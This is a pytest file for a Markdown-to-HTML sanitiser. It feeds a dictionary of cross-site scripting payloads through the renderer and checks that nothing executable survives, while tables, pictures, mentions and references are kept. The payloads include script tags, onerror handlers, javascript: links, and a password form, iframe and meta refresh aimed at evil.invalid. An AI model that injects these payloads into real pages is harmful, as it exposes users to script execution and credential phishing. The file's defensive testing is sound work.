"""Markdown becomes what GitHub would show, and nothing in it can do anything but be shown."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.page.rendering import ATTRIBUTES, TAGS, render
from tests.sandbox.page_world import ANSWER

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "unclosed script": "<script src=//evil.invalid/x.js>",
    "handler": '<img src="x" onerror="alert(1)">',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link in capitals": "<a href=' JaVaScRiPt:alert(1)'>click</a>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "javascript picture": '<img src="javascript:alert(1)">',
    "javascript srcset": '<picture><source srcset="javascript:alert(1)"><img src="x.png"></picture>',
    "data srcset": '<picture><source srcset="data:image/svg+xml,<svg/onload=alert(1)>"></picture>',
    "style": '<p style="position:fixed;top:0">over all</p><style>body{display:none}</style>',
    "iframe": '<iframe src="https://evil.invalid"></iframe>',
    "form": '<form action="https://evil.invalid"><input name="password"><button>go</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
    "base": '<base href="https://evil.invalid/">',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "broken attribute": '<a href="x" title="</a><script>alert(1)</script>">x</a>',
    "private characters": "\ue000\ue001",
    "id and class": '<div id="write" class="top">x</div>',
}


class Judge(HTMLParser):
    """Collects the elements and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def check_harmless(html: str) -> None:
    for tag, attributes in Judge(html).elements:
        if tag == "input":
            assert attributes.keys() <= {"type", "disabled", "checked"}
            assert attributes["type"] == "checkbox"
            continue
        assert tag in TAGS
        extra = {"rel", "class"} if tag == "a" else set()
        assert attributes.keys() <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | extra
        for name in ("href", "src", "srcset", "cite"):
            address = (attributes.get(name) or "").strip().lower()
            assert not address.startswith(("javascript:", "data:", "vbscript:"))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_is_made_harmless(text: str) -> None:
    html = render(text)
    check_harmless(html)
    assert "alert(1)" not in html or "<script" not in html
    assert "<input" not in html


@given(
    st.lists(
        st.sampled_from([*HOSTILE.values(), "`", "|", "\n", "> ", "- [x] ", "<details>", "@a", "#1", "<", "-->", '"'])
    )
)
def test_no_combination_of_hostile_pieces_gets_through(pieces: list[str]) -> None:
    check_harmless(render("".join(pieces)))


def test_an_answer_keeps_its_table_picture_details_and_small_print() -> None:
    html = render(ANSWER)
    assert '<th align="right">before</th>' in html
    assert '<source media="(prefers-color-scheme: dark)" srcset="/pictures/dark.png">' in html
    assert '<img alt="Half were in within 19 hours" src="/pictures/light.png" width="740">' in html
    assert "<details><summary>Numbers, definitions, how to repeat this</summary>" in html
    assert '<li><input type="checkbox" checked disabled> bots left out</li>' in html
    assert "<sub>34 of 34 pull requests" in html
    assert "almanac:0f3a" not in html


def test_line_breaks_in_a_comment_are_kept() -> None:
    assert "one<br>" in render("one\ntwo")


def test_a_code_block_keeps_its_language() -> None:
    assert '<pre lang="mermaid"><code>' in render("```mermaid\nxychart-beta\n```")


def test_a_bare_mention_and_reference_are_linked_in_the_repository() -> None:
    """This is how one sees that a text was not made harmless."""
    html = render("ask @quartz-otter about #12 and quartz-labs/ember#3", "quartz-labs/lantern")
    assert '<a class="mention" href="/quartz-otter">@quartz-otter</a>' in html
    assert '<a class="reference" href="/quartz-labs/lantern/issues/12">#12</a>' in html
    assert '<a class="reference" href="/quartz-labs/ember/issues/3">quartz-labs/ember#3</a>' in html


@pytest.mark.parametrize(
    "text",
    [
        "`@quartz-otter`",
        "```\n@quartz-otter #12\n```",
        "otter@quartz.invalid",
        "[see](https://x.invalid/#12)",
        "a#0",
        "&#64;",
    ],
)
def test_code_links_mail_addresses_and_split_words_mention_nobody(text: str) -> None:
    html = render(text, "quartz-labs/lantern")
    assert 'class="mention"' not in html
    assert 'class="reference"' not in html
    assert "<!--" not in html
